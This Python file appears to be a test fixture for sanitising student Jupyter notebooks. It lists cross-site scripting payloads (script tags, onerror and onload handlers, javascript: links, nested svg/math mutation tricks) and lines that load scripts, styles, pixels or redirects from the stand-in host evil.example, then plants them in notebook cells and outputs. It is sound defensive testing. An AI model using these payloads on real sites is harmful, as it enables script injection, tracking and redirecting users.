"""What a student may try to make run in the browser of whoever opens the page.

Each sets ``window.name`` to ``ran`` or asks for an address if it gets its way.
"""

from nbformat import v4

RUN = "window.name='ran'"

HTML = (
    f"<script>{RUN}</script>",
    f'<SCRIPT SRC=//evil.example/x.js></SCRIPT><img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></math>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">press</a>',
    f'<a href="java\tscript:{RUN}">press</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">press</a>',
    '<img src="http://evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J2FsZXJ0KDEpJy8+">',
    "<style>@import 'http://evil.example/x.css'; body { display: none }</style>",
    '<div style="position:fixed;inset:0;background:url(http://evil.example/x)">cover</div>',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;http://evil.example'>",
    "<base href=http://evil.example/><form action=http://evil.example><button>go</button>",
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    f'<body onload="{RUN}"><video><source onerror="{RUN}"></video>',
    f'--><img src=x onerror="{RUN}"><!--',
)

MARKDOWN = (
    f"[press](javascript:{RUN})",
    f"[press](<java\nscript:{RUN}>)",
    f"[press][1]\n\n[1]: javascript:{RUN}",
    f'![x](x"onerror="{RUN})',
    "![x](http://evil.example/pixel.png)",
    "![x](attachment:evil.svg)",
    f"<javascript:{RUN}>",
    f'`<img src=x onerror="{RUN}">`',
    f'$\\href{{javascript:{RUN}}}{{x}}$ $$<img src=x onerror="{RUN}">$$',
    f'| a |\n|---|\n| <img src=x onerror="{RUN}"> |',
    *HTML,
)


def add_payloads(notebook):
    """Put everything into a notebook: as text, and as saved outputs."""
    for text in MARKDOWN:
        notebook.cells.append(v4.new_markdown_cell(text))
    demo = next(c for c in notebook.cells if "demo" in c.metadata.get("tags", ()))
    demo.outputs = [
        *(v4.new_output("display_data", {"text/html": html}) for html in HTML),
        *(v4.new_output("display_data", {"text/markdown": text}) for text in MARKDOWN),
        *(v4.new_output("stream", text=html) for html in HTML),
        v4.new_output("display_data", {"image/svg+xml": HTML[2]}),
        v4.new_output("display_data", {"image/png": '"><script>'}),
        v4.new_output("display_data", {"application/javascript": "window.name='ran'"}),
        v4.new_output("error", ename=HTML[0], evalue=HTML[0], traceback=[HTML[0]]),
    ]
